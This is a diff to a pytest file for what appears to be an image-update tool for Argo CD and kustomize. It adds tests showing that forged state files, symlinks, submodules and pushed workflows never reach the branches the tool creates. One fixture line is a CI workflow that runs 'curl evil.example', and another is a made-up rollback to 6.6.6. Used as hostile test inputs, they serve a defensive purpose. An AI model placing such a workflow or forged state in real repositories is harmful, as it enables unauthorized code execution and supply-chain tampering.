@@ -15,6 +15,14 @@ pytestmark = pytest.mark.slow
 LIST = list_path(HEAD)
 STATE = ".image-update/apps/a/argocd_a.state"
 EVIL = "on: push\njobs: {evil: {steps: [{run: curl evil.example}]}}\n"
+MADE_UP = """\
+files:
+  apps/a/kustomization.yaml:
+    images:
+      web:
+        hold: {reason: x}
+        rollback: {to: 6.6.6, tag: 6.6.6, was: 1.0.0}
+"""
 
 
 def scene_in(folder: Path) -> Scene:
@@ -127,6 +135,11 @@ def test_a_state_that_is_no_text_ends_no_hold(mode: str, text: str, tmp_path: Pa
     [
         (".github/workflows/ci.yaml", "100644", EVIL),
         (".image-update/config", "100644", "version: 1\n"),
+        (
+            STATE,
+            "100644",
+            MADE_UP,
+        ),
         ("apps/a/kustomization.yaml", "120000", "../../evil.yaml"),
         ("apps/a", "160000", ""),
     ],
@@ -147,6 +160,8 @@ def test_what_somebody_pushes_to_a_head_is_in_no_head_that_is_made(
         assert set(changed) <= {"apps/a/kustomization.yaml", STATE}
     assert path not in entries(scene, "main") or path == "apps/a/kustomization.yaml"
     git(repo_of(scene), "update-ref", "-d", f"refs/heads/{HEAD}")
+    scene.by_hand("release", "web")  # a hold that somebody made up only holds
     scene.event("web:1.3.0")
+    assert "6.6.6" not in str(scene.branch.heads)
     assert set(entries(scene, HEAD)) == set(entries(scene, "main"))
     assert set(entries(scene, HEAD).values()) == {"100644"}
